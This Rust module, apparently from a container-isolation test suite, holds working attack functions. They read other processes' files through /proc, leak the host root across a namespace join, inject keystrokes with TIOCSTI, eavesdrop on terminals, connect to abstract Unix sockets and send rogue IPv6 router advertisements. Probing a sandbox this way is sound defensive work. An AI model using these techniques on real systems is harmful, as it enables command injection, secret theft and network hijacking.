//! Attacks on processes, terminals and machines beside the container.

use std::collections::BTreeSet;
use std::fs::{self, File};
use std::io::{Read as _, Write as _};
use std::os::fd::AsRawFd as _;
use std::process::Command;
use std::time::{Duration, Instant};

use anyhow::{Context as _, Result, bail, ensure};
use nix::errno::Errno;
use nix::fcntl::{OFlag, open};
use nix::sched::{CloneFlags, setns};
use nix::sys::stat::Mode;

use super::{WAIT, others};

/// Into the root directory of another process.
pub(super) fn look_into(pid: &str, secret: &str) -> Result<String> {
    Ok(fs::read_to_string(format!("/proc/{pid}/root{secret}"))?)
}

/// Into every open file of everybody who comes in.
pub(super) fn look_into_all(secret: &str) -> Result<String> {
    println!("ready");
    let (start, mut seen) = (Instant::now(), BTreeSet::new());
    while start.elapsed() < WAIT {
        for pid in others()? {
            if seen.insert(pid.clone()) {
                println!("saw {pid}");
            }
            for fd in 0..32 {
                if let Ok(text) = fs::read_to_string(format!("/proc/{pid}/fd/{fd}{secret}")) {
                    println!("{text}");
                }
            }
        }
    }
    bail!("it is late")
}

/// A careless runtime that joins a container: it brings along the host's root directory, open.
pub(super) fn join(pid: &str) -> Result<String> {
    let root = open("/", OFlag::O_DIRECTORY, Mode::empty())?;
    setns(File::open(format!("/proc/{pid}/ns/pid"))?, CloneFlags::CLONE_NEWPID)?;
    let status = Command::new("sleep").arg("1000").status()?;
    drop(root);
    bail!("{status}")
}

/// Types into the terminal, as if the user did (ioctl_tty(2), TIOCSTI).
// ANCHOR: type
pub(super) fn type_in(text: &str) -> Result<String> {
    let terminal = File::options().read(true).write(true).open("/dev/tty");
    let terminals = terminal.iter().map(File::as_raw_fd).chain(0..3);
    let mut last = Errno::ENOTTY;
    for fd in terminals {
        let typed = text.bytes().chain([b'\n']).try_for_each(|byte| {
            // SAFETY: the pointer is to one byte, which outlives the call.
            Errno::result(unsafe { libc::ioctl(fd, libc::TIOCSTI, &raw const byte) }).map(drop)
        });
        match typed {
            Ok(()) => return Ok("typed".into()),
            Err(errno) => last = errno,
        }
    }
    Err(last).context("TIOCSTI")
}
// ANCHOR_END: type

/// Reads what the user types, from where we are only to write to.
pub(super) fn listen() -> Result<String> {
    println!("ready");
    let mut typed = [0; 64];
    for fd in ["/proc/self/fd/1", "/proc/self/fd/2"] {
        let opened = File::open(fd)?;
        if nix::unistd::isatty(&opened)? {
            let len = { &opened }.read(&mut typed)?;
            return Ok(format!("heard {}", String::from_utf8_lossy(&typed[..len])));
        }
    }
    bail!("no terminal")
}

/// To a Unix socket with a name that is in no file system (unix(7), "abstract").
pub(super) fn connect(name: &str) -> Result<String> {
    use std::os::linux::net::SocketAddrExt as _;
    use std::os::unix::net::{SocketAddr, UnixStream};
    let mut stream = UnixStream::connect_addr(&SocketAddr::from_abstract_name(name)?)?;
    let mut text = String::new();
    stream.read_to_string(&mut text)?;
    Ok(text)
}

/// "I am a router, and this is my network" (RFC 4861): to everybody on the bridge.
pub(super) fn advertise(prefix: &str) -> Result<String> {
    wait_for_address()?;
    let prefix: std::net::Ipv6Addr = prefix.parse()?;
    // Router advertisement: type, code, checksum (the kernel's), hop limit, flags, lifetime 1800 s,
    // times; option prefix information: on-link and autonomous, for 1800 s.
    let mut packet = vec![134, 0, 0, 0, 64, 0, 7, 8, 0, 0, 0, 0, 0, 0, 0, 0];
    packet.extend([3, 4, 64, 0xc0, 0, 0, 7, 8, 0, 0, 7, 8, 0, 0, 0, 0]);
    packet.extend(prefix.octets());
    let socket = icmp6_to_all_nodes()?;
    (&socket).write_all(&packet).context("send")?;
    Ok("sent".into())
}

/// Waits until eth0 may use the IPv6 address that every interface gives itself.
fn wait_for_address() -> Result<()> {
    let start = Instant::now();
    loop {
        // Address, index, prefix length, scope 20 (link), flags 80 (permanent, not tentative), name.
        let list = fs::read_to_string("/proc/net/if_inet6")?;
        let usable = |line: &str| line.ends_with(" eth0") && line.contains(" 20 80 ");
        if list.lines().any(usable) {
            return Ok(());
        }
        ensure!(start.elapsed() < Duration::from_secs(20), "eth0 has no IPv6 address:\n{list}");
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// A raw ICMPv6 socket that sends to all nodes on eth0 with hop limit 255.
fn icmp6_to_all_nodes() -> Result<File> {
    use nix::sys::socket::{
        AddressFamily, SockFlag, SockProtocol, SockType, SockaddrIn6, connect, socket,
    };
    let fd =
        socket(AddressFamily::Inet6, SockType::Raw, SockFlag::SOCK_CLOEXEC, SockProtocol::IcmpV6)
            .context("raw socket")?;
    let hops: libc::c_int = 255;
    // SAFETY: the pointer is to an int, whose size is passed.
    Errno::result(unsafe {
        libc::setsockopt(
            fd.as_raw_fd(),
            libc::IPPROTO_IPV6,
            libc::IPV6_MULTICAST_HOPS,
            (&raw const hops).cast(),
            4,
        )
    })?;
    let eth0 = nix::net::if_::if_nametoindex("eth0")?;
    let everybody = std::net::SocketAddrV6::new("ff02::1".parse()?, 0, 0, eth0);
    connect(fd.as_raw_fd(), &SockaddrIn6::from(everybody)).context("connect")?;
    Ok(File::from(fd))
}
